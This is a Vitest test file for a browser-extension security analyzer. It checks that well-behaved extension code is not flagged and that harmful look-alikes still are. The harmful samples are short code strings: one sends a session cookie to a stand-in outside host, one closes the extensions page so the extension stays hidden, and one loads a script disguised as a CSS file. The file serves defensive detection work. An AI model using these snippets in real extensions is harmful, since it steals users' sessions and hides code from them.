import { expect, it } from 'vitest';
import { analyze } from '../analyze.ts';
import { memoryTree } from '../sources/memory.ts';

/*
 * Classes of false alarms that well-kept extensions showed, each with the harmful thing beside it that must stay told.
 */

interface Case {
  readonly permissions: readonly string[];
  readonly script: string;
  readonly more?: Readonly<Record<string, string>>;
}

async function rulesOf({ permissions, script, more = {} }: Case): Promise<readonly string[]> {
  const manifest = {
    manifest_version: 3,
    name: 'Sample',
    version: '1',
    permissions: permissions.filter((one) => !one.includes('/')),
    host_permissions: permissions.filter((one) => one.includes('/')),
    background: { service_worker: 'background.js' },
  };
  const files = { 'manifest.json': JSON.stringify(manifest), 'background.js': script, ...more };
  const { findings } = await analyze(memoryTree(files), { kind: 'extension' });
  return findings.filter(({ severity }) => severity === 'critical' || severity === 'high').map(({ rule }) => rule);
}

const SESSION =
  "chrome.cookies.get({ url: 'https://www.shop.example/', name: 'reddit_session' }, (c) => fetch('ADDRESS', { method: 'POST', body: c.value }));";

it.each<[string, Case, readonly string[], Case, readonly string[]]>([
  [
    'a session cookie that goes back to its own site',
    {
      permissions: ['cookies', 'https://*.shop.example/*'],
      script: SESSION.replace('ADDRESS', 'https://api.shop.example/token'),
    },
    [],
    {
      permissions: ['cookies', 'https://*.shop.example/*'],
      script: SESSION.replace('ADDRESS', 'https://collect.example/x'),
    },
    ['session-cookies-taken'],
  ],
  [
    'the page of shortcuts, which a button leads to',
    {
      permissions: ['tabs'],
      script:
        "chrome.action.onClicked.addListener(() => chrome.tabs.query({ url: 'chrome://extensions/shortcuts' }, (all) => chrome.tabs.update(all[0].id, { active: true })));",
    },
    [],
    {
      permissions: ['tabs'],
      script:
        "chrome.tabs.onUpdated.addListener((id, info, tab) => { if (tab.url.startsWith('chrome://extensions/')) chrome.tabs.remove(id); });",
    },
    ['hides-from-extension-page'],
  ],
  [
    'a style that a bundler makes a text of',
    {
      permissions: [],
      script: "import style from './panel.css?inline'; document.adoptedStyleSheets = [style];",
      more: { 'panel.css': 'p { color: red }' },
    },
    [],
    { permissions: [], script: "importScripts('panel.css');", more: { 'panel.css': 'run()' } },
    ['script-under-other-name'],
  ],
])('does not tell %s', async (_, harmless, silent, harmful, told) => {
  expect(await rulesOf(harmless)).toEqual(silent);
  expect(await rulesOf(harmful)).toEqual(expect.arrayContaining([...told]));
});
